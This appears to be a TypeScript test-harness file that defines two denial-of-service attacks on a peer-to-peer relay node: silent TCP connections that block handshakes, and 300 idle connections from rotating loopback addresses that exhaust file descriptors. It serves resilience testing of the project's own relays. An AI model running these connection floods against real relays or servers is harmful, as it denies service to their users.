/** TCP connections that say nothing: a few a second, so that others cannot shake hands; or many, so that no descriptor is left. */
import net from 'node:net'
import { multiaddr } from '@multiformats/multiaddr'
import type { Attack } from './attack.ts'
import { comeFrom, type Mallory } from './mallory.ts'
import { pause } from './measure.ts'

export const silentSockets: Attack = {
  name: 'silent-sockets',
  what: 'five silent TCP connections a second, from one address',
  victim: 'relay2',
  async strike(mallory) {
    const sockets: net.Socket[] = []
    await mallory.begin()
    await mallory.keepAt(5, () => void sockets.push(silent(mallory)))
    for (const socket of sockets) socket.destroy()
  },
}

export const idleSockets: Attack = {
  name: 'idle-sockets',
  what: '300 idle TCP connections from 60 addresses, at a relay that may open 256 files',
  victim: 'relay2',
  descriptors: 256,
  async strike(mallory) {
    const sockets: net.Socket[] = []
    await mallory.begin()
    for (let at = 0; at < 300; at++) {
      comeFrom(`127.0.1.${1 + (at % 60)}`)
      sockets.push(silent(mallory))
      await pause(10)
    }
    await pause(mallory.seconds * 1_000)
    for (const socket of sockets) socket.destroy()
  },
}

/** Connect to the second relay, and say nothing. */
function silent({ addresses }: Mallory): net.Socket {
  const values = new Map(
    multiaddr(addresses.relay2!)
      .getComponents()
      .map(({ name, value }) => [name, value]),
  )
  const socket = net.connect({ host: values.get('ip4')!, port: Number(values.get('tcp')) })
  socket.on('error', () => undefined)
  return socket
}
